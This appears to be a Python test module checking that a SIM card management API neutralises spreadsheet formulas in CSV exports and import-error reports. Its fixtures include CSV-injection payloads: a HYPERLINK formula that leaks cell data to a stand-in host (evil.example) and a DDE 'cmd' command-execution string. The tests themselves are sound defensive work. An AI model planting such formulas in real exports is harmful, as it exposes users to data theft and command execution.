"""Bad input and abuse cannot hurt the service: CSV exports carry no live formula, request bodies are
bounded before authentication, rate limits and the login lockout hold across API processes, and a
stranger's wrong passwords cannot lock the owner out."""

from __future__ import annotations

import csv
import io
import uuid

import httpx

from domain.enums import SimStatus
from domain.models import SimCard, SimImport
from tests.api._security_support import Db
from tests.api._support import random_iccid, random_imsi
from tests.api.conftest import Tenant

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2;"Cliquez ici")'


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


# --- CSV exports --------------------------------------------------------------------------------------


async def test_sim_export_neutralises_formulas(app_client: httpx.AsyncClient, db: Db, tenant: Tenant) -> None:
    notes = {
        random_iccid(): FORMULA,
        random_iccid(): "+33612345678 appelle",
        random_iccid(): "-1+cmd|' /C calc'!A0",
        random_iccid(): "@SUM(1;2)",
        random_iccid(): "\t=1+1",
        random_iccid(): "\r=1+1",
        random_iccid(): "-1.50",  # a plain number stays a number
        random_iccid(): "note ordinaire = rien",
    }
    async with db.begin() as session:
        for iccid, note in notes.items():
            session.add(
                SimCard(
                    org_id=tenant.org_id,
                    company_id=tenant.company_id,
                    iccid=iccid,
                    imsi=random_imsi(),
                    carrier="Orange",
                    status=SimStatus.BLANK,
                    note=note,
                    tags=["=1+2"],
                )
            )
    response = await app_client.post(
        "/api/v1/sims/export",
        json={"iccids": list(notes), "columns": ["iccid", "note", "tags", "remaining_days"]},
        headers=tenant.org_staff,
    )
    rows = _rows(response)
    assert rows[0] == ["ICCID", "Note", "Étiquettes", "Jours restants"]
    exported = {row[0]: row[1] for row in rows[1:]}
    assert exported == {
        iccid: note if note in ("-1.50", "note ordinaire = rien") else "'" + note for iccid, note in notes.items()
    }
    assert {row[2] for row in rows[1:]} == {"'=1+2"}
    for row in rows[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r")) or row[1] == "-1.50"


async def test_import_error_report_neutralises_formulas(app_client: httpx.AsyncClient, db: Db, tenant: Tenant) -> None:
    batch = f"import-{uuid.uuid4().hex[:10]}"
    async with db.begin() as session:
        session.add(
            SimImport(
                org_id=tenant.org_id,
                batch=batch,
                rejected=1,
                errors=[{"row": 2, "iccid": "=1+2", "field": "iccid", "reason": "@invalide"}],
                created_by="test",
            )
        )
    rows = _rows(await app_client.get(f"/api/v1/sims/imports/{batch}/errors.csv", headers=tenant.org_staff))
    assert rows == [["ligne", "iccid", "champ", "motif"], ["2", "'=1+2", "iccid", "'@invalide"]]
